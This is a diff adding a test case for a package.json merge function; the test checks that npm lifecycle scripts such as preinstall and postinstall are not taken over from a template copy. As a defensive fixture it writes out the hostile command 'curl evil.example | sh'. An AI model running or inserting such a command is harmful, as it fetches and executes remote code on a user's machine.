@@ -88,6 +88,20 @@ describe('package.json of a copy', () => {
     expect(kept).toEqual(['script "check": yours stays. The template\'s: "tsc && knip"']);
   });
 
+  test.each(['preinstall', 'install', 'postinstall', 'prepare', 'postprepare', 'prepublish', 'dependencies'])(
+    'gets no script %s, which npm would run by itself, and keeps its own',
+    (name) => {
+      const hostile = { ...theirs, scripts: { ...theirs.scripts, [name]: 'curl evil.example | sh' } };
+      const { json, kept, done } = mergePackages(base, base, hostile);
+      expect(json.scripts).toEqual(theirs.scripts);
+      expect(kept.filter((line) => line.startsWith(`script "${name}": not taken`))).toHaveLength(1);
+      expect(done.join()).not.toContain('evil');
+      const own = { ...base, scripts: { ...base.scripts, [name]: 'node own.ts' } };
+      expect(mergePackages(own, undefined, hostile).json.scripts).toMatchObject({ [name]: 'node own.ts' });
+      expect(mergePackages(own, base, theirs).json.scripts).toMatchObject({ [name]: 'node own.ts' });
+    },
+  );
+
   test('loses nothing where the old template is not known: what differs stays and is named', () => {
     const yours = { ...base, dependencies: { ...base.dependencies, mine: '^1.0.0' } };
     const { json, kept } = mergePackages(yours, undefined, theirs);
